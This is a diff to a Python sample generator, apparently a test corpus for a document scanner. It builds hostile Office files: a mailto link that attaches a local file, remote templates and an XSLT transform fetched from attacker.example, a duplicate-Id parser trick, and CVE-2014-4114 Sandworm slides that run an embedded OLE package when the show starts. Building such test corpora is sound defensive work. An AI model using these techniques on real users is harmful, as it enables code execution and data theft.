@@ -982,3 +982,78 @@ def pptx_run_level_ppaction(work: Path) -> bytes:
 @sample("pptx_ppaction_uppercase", ".pptx", "ppaction", "RFC 3986 §3.1: the scheme 'PPACTION' is case-insensitive")
 def pptx_ppaction_uppercase(work: Path) -> bytes:
     return _pptx_action("PPACTION://PROGRAM", "file:///C:/Windows/System32/calc.exe")
+
+
+# ---------------------------------------------------------------- third round
+MAILTO_ATTACH = "mailto:soumu@town.example.lg.jp?subject=report&attach=C:\\Users\\Public\\Documents\\secret.xlsx"
+
+
+@sample("docx_mailto_attach", ".docx", "external-relationship", "'Mailto: Me Your Secrets' (NDSS 2021): mailto ?attach= a local file")
+def docx_mailto_attach(work: Path) -> bytes:
+    return _word_rel_element(RT + "hyperlink", html.escape(MAILTO_ATTACH),
+                             '<w:p><w:hyperlink r:id="rIdAtk">' + _run("担当へメール") + "</w:hyperlink></w:p>")
+
+
+@sample("docx_object_link_new_syntax", ".docx", "external-relationship", "§17.3.3.20 w:objectLink (2nd-edition OLE syntax) updating always")
+def docx_object_link_new_syntax(work: Path) -> bytes:
+    return _word_rel_element(
+        RT + "oleObject", html.escape(MHTML),
+        '<w:p><w:r><w:object><w:objectLink r:id="rIdAtk" w:progId="htmlfile" w:shapeId="_x0000_i1030" '
+        'w:updateMode="always"/></w:object></w:r></w:p>',
+    )
+
+
+@sample("docx_save_through_xslt", ".docx", "external-relationship", "§17.15.1.76 saveThroughXslt naming a remote transform")
+def docx_save_through_xslt(work: Path) -> bytes:
+    package = _docx()
+    package.add_rel(SETTINGS_RELS, "rIdXsl", RT + "transform", "http://attacker.example/t.xsl", True)
+    settings = package.text("word/settings.xml")
+    if 'xmlns:r="' not in settings.split(">", 2)[1]:
+        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{RT[:-1]}" ', 1)
+    package.put("word/settings.xml", re.sub(r"(<w:settings[^>]*>)", r'\1<w:saveThroughXslt r:id="rIdXsl"/>', settings, count=1))
+    return package.bytes()
+
+
+@sample("docx_duplicate_relationship_ids", ".docx", "remote-template", "OPC §9.3: two relationships with one Id (parser differential)")
+def docx_duplicate_relationship_ids(work: Path) -> bytes:
+    package = _docx()
+    package.add_rel(SETTINGS_RELS, "rIdTpl", RT + "hyperlink", "https://www.city.example.lg.jp/", True)
+    package.add_rel(SETTINGS_RELS, "rIdTpl", RT + "attachedTemplate", "http://attacker.example/t.dotm", True)
+    settings = package.text("word/settings.xml")
+    if 'xmlns:r="' not in settings.split(">", 2)[1]:
+        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{RT[:-1]}" ', 1)
+    package.put("word/settings.xml", re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1))
+    return package.bytes()
+
+
+def _sandworm(suffix_main: str | None) -> bytes:
+    """An embedded Packager object plus a slide timing node that fires its verb when the show starts."""
+    package = base.Package(base.pptx_bytes())
+    _add_part(package, "ppt/embeddings/oleObject1.bin", _packager_ole1(),
+              "application/vnd.openxmlformats-officedocument.oleObject", SLIDE_RELS, "rIdOle", RT + "oleObject")
+    frame = (
+        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="Object 8"/><p:cNvGraphicFramePr/><p:nvPr/>'
+        '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic>'
+        '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
+        '<p:oleObj r:id="rIdOle" progId="Package" name="slide"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
+    )
+    timing = (
+        '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" restart="never" nodeType="tmRoot"><p:childTnLst>'
+        '<p:cmd type="verb" cmd="3"><p:cBhvr><p:cTn id="2" dur="1000"/><p:tgtEl><p:spTgt spid="9"/></p:tgtEl></p:cBhvr>'
+        "</p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>"
+    )
+    slide = package.text(SLIDE).replace("</p:spTree>", frame + "</p:spTree>", 1)
+    package.put(SLIDE, slide.replace("</p:clrMapOvr>", "</p:clrMapOvr>" + timing, 1))
+    if suffix_main:
+        package.main_type("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", suffix_main)
+    return package.bytes()
+
+
+@sample("pptx_sandworm_ole_verb", ".pptx", "ole-embedding", "CVE-2014-4114 (Sandworm): Packager OLE + p:cmd type=verb on show start")
+def pptx_sandworm_ole_verb(work: Path) -> bytes:
+    return _sandworm(None)
+
+
+@sample("ppsx_sandworm_ole_verb", ".ppsx", "ole-embedding", "CVE-2014-4114 as .ppsx: opens straight into the slide show")
+def ppsx_sandworm_ole_verb(work: Path) -> bytes:
+    return _sandworm("application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml")
